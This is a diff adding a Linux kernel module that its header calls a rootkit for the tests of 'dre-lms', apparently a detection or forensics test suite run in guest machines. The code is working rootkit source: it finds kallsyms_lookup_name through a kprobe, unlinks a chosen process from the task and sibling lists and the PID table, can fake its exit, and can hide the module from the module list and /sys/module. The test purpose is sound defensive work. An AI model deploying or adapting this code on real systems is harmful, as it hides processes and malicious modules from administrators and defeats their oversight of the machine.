@@ -1,0 +1,72 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * A root-kit for the tests of dre-lms, and for nothing else: it hides one task of the guest it is loaded in, and itself.
+ *
+ * level 1: from the list of processes; 2: from the numbers of processes and from its parent, too, so that ps(1) does
+ * not show it; 3: it also has the number of no process, and seems to have ended.
+ * hide=1: the module leaves the list of modules and /sys/module.
+ */
+#include <linux/idr.h>
+#include <linux/kprobes.h>
+#include <linux/module.h>
+#include <linux/pid_namespace.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
+
+static int pid, level, hide;
+module_param(pid, int, 0);
+module_param(level, int, 0);
+module_param(hide, int, 0);
+
+static rwlock_t *tasks_lock(void)
+{
+	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
+	unsigned long (*lookup)(const char *name);
+
+	if (register_kprobe(&probe) < 0)
+		return NULL;
+	lookup = (void *)probe.addr;
+	unregister_kprobe(&probe);
+	return (rwlock_t *)lookup("tasklist_lock");
+}
+
+static int __init hider_init(void)
+{
+	rwlock_t *lock = tasks_lock();
+	struct task_struct *task;
+
+	if (!lock)
+		return -ENOENT;
+	write_lock_irq(lock);
+	task = pid ? pid_task(find_pid_ns(pid, &init_pid_ns), PIDTYPE_PID) : NULL;
+	if (task) {
+		if (level >= 1)
+			list_del_init(&task->tasks);
+		if (level >= 2) {
+			list_del_init(&task->sibling);
+			idr_remove(&init_pid_ns.idr, pid);
+		}
+		if (level >= 3) {
+			task->pid = 0;
+			task->tgid = 0;
+			task->exit_state = EXIT_DEAD;
+		}
+	}
+	write_unlock_irq(lock);
+	if (pid && !task)
+		return -ESRCH;
+	if (hide) {
+		list_del_init(&THIS_MODULE->list);
+		kobject_del(&THIS_MODULE->mkobj.kobj);
+	}
+	return 0;
+}
+
+static void __exit hider_exit(void)
+{
+}
+
+module_init(hider_init);
+module_exit(hider_exit);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("hides a task in a guest of the tests of dre-lms");
